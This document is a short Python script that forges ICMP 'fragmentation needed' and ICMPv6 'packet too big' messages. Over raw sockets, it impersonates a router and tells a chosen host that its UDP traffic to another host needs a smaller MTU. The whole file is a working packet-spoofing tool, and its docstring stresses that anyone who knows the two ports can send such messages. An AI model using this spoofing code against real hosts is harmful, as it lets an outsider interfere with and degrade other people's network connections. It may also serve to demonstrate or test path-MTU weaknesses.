"""Says to a host, as a router would, that a datagram of its own was too long: forged_icmp.py FROM PORT TO PORT MTU.

FROM is the host that is told, TO where its datagram is said to have gone. Anybody can send that: nothing in it is secret but
the two ports."""

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    source, source_port, target, target_port, mtu = sys.argv[1:]
    udp = struct.pack("!HHHH", int(source_port), int(target_port), 1460, 0)
    if ":" in source:
        pack = lambda ip: socket.inet_pton(socket.AF_INET6, ip)
        quoted = struct.pack("!IHBB", 0x60000000, 1460, socket.IPPROTO_UDP, 64) + pack(source) + pack(target) + udp
        message = struct.pack("!BBHI", 2, 0, 0, int(mtu)) + quoted  # the kernel fills in the checksum
        raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    else:
        header = struct.pack("!BBHHHBBH", 0x45, 0, 1480, 1, 0, 64, socket.IPPROTO_UDP, 0)
        quoted = header + socket.inet_aton(source) + socket.inet_aton(target) + udp
        message = struct.pack("!BBHHH", 3, 4, 0, 0, int(mtu)) + quoted
        message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for _ in range(3):
        raw.sendto(message, (source, 0))


main()
